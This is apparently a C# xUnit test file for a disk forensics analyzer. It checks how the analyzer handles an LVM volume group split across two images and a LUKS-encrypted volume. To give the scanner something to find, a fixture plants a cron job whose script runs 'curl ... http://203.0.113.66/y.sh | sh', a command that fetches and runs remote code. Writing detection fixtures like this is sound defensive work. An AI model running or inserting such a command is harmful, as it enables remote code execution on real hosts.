using System.Text;
using System.Text.Json.Nodes;
using Xunit;

namespace Forensics.Analyzer.Tests.EndToEnd;

/// <summary>Volumes that lie nowhere in one piece, and those that are known and cannot be read.</summary>
public sealed class LogicalVolumeTests : IDisposable
{
    private const string RootUuid = "11111111-1111-4111-8111-111111111111";
    private const string VarUuid = "22222222-2222-4222-8222-222222222222";
    private const string Crontab = "/var/spool/cron/crontabs/root";

    private readonly Machine _machine = new();
    private readonly string _first;
    private readonly string _second;

    public LogicalVolumeTests()
    {
        string root = _machine.Ext4("root", RootUuid, null, [.. Machine.System("web", "/dev/mapper/vg--0-root / ext4\n/dev/vg-0/var /var ext4\n"), ("etc/cron.d/job", "* * * * * root /var/lib/job\n")]);
        string var = _machine.Ext4("var", VarUuid, null, [("spool/cron/crontabs/root", Machine.EvilJob), ("lib/job", "#!/bin/sh\ncurl -fsSL http://203.0.113.66/y.sh | sh\n")]);
        _second = _machine.At("second.raw");
        LvmDisk.Write("vg-0", [(_machine.At("pv0"), 12), (_second, 8)], [("root", root), ("var", var)]);
        _first = _machine.Disk("first.raw", "label: gpt", (_machine.At("pv0"), "type=E6D6D379-F507-44C2-A23C-238F2A3DF928"));
    }

    public void Dispose() => _machine.Dispose();

    [Fact]
    public void A_volume_group_over_two_images_is_one_host()
    {
        (JsonObject report, string canonical) = Deadbox.Scan(_first, _second, "--threads", "1");
        JsonNode host = Assert.Single(report["hosts"]!.AsArray())!;
        Assert.Equal("lvm:vg-0/root", (string?)host["volume"]);
        Assert.Equal(["lvm:vg-0/root", "lvm:vg-0/var"], host["volumes"]!.AsArray().Select(volume => (string)volume!));
        JsonNode finding = Assert.Single(report["findings"]!.AsArray(), finding => (string?)finding!["path"] == Crontab)!;
        Assert.Equal(("lvm:vg-0/var", -1L), ((string?)finding["volume"], (long)finding["volumeOffset"]!));
        Assert.Contains(report["findings"]!.AsArray(), finding => (string?)finding!["path"] == "/var/lib/job" && finding["related"]!.AsArray().Any(related => (string?)related!["path"] == "/etc/cron.d/job"));
        JsonObject coverage = report["coverage"]!.AsObject();
        Assert.False((bool)coverage["isIncomplete"]!);
        Assert.Equal(2, (int)coverage["volumesSkipped"]!["part of LVM volume group vg-0"]!);
        Assert.Empty(ReportSchema.Errors(report));
        Assert.Equal(canonical, Deadbox.Scan(_first, _second, "--threads", "4").Canonical);

        (int code, byte[] output, string error) = Deadbox.Run("files", _first, _second);
        Assert.Equal((0, ""), (code, error));
        Assert.Contains(Encoding.UTF8.GetString(output).Split('\n'), line => line.StartsWith("lvm:vg-0/var,", StringComparison.Ordinal) && line.Contains(",/spool/cron/crontabs/root,", StringComparison.Ordinal));
        Assert.Equal(Machine.EvilJob, Deadbox.Text("cat", _first, _second, Crontab));
        Assert.Equal(Machine.EvilJob, Deadbox.Text("cat", _first, _second, "/spool/cron/crontabs/root", "--volume", "lvm:vg-0/var"));
        string info = Deadbox.Text("info", _first, _second);
        Assert.Contains("/dev/mapper/vg--0-var", info, StringComparison.Ordinal);
        Assert.Contains("part of LVM volume group vg-0", info, StringComparison.Ordinal);
    }

    [Fact]
    public void A_group_that_lacks_a_disk_makes_the_scan_incomplete()
    {
        JsonObject report = Deadbox.Scan(_first).Report;
        Assert.True((bool)report["coverage"]!["isIncomplete"]!);
        JsonNode volume = Assert.Single(report["image"]!["volumes"]!.AsArray(), volume => (string?)volume!["identity"] == "lvm:vg-0/var")!;
        Assert.NotNull((string?)volume["notReadBecause"]);
        JsonNode mount = Assert.Single(report["hosts"]![0]!["mounts"]!.AsArray(), mount => (string?)mount!["mountPoint"] == "/var")!;
        Assert.StartsWith("the volume is not read: ", (string?)mount["note"], StringComparison.Ordinal);
        Assert.Empty(ReportSchema.Errors(report));
        Gated(_first);
    }

    [Fact]
    public void An_encrypted_volume_makes_the_scan_incomplete()
    {
        byte[] luks = new byte[2 << 20];
        new byte[] { 0x4C, 0x55, 0x4B, 0x53, 0xBA, 0xBE, 0, 2 }.CopyTo(luks, 0);
        File.WriteAllBytes(_machine.At("luks"), luks);
        string image = _machine.Disk("disk.raw", "label: gpt", (_machine.Ext4("plain", RootUuid, null, Machine.System("web", "")), ""), (_machine.At("luks"), ""));
        JsonObject report = Deadbox.Scan(image).Report;
        Assert.StartsWith("LUKS 2 (encrypted)", (string?)report["image"]!["volumes"]![1]!["notReadBecause"], StringComparison.Ordinal);
        Assert.True((bool)report["coverage"]!["isIncomplete"]!);
        Gated(image);
    }

    private static void Gated(string image)
    {
        Assert.Equal(4, Deadbox.Run("scan", image, "--fail-on", "critical", "--no-builtin-rules", "-q").Code);
        Assert.Equal(0, Deadbox.Run("scan", image, "--fail-on", "critical", "--no-builtin-rules", "--allow-incomplete", "-q").Code);
    }
}
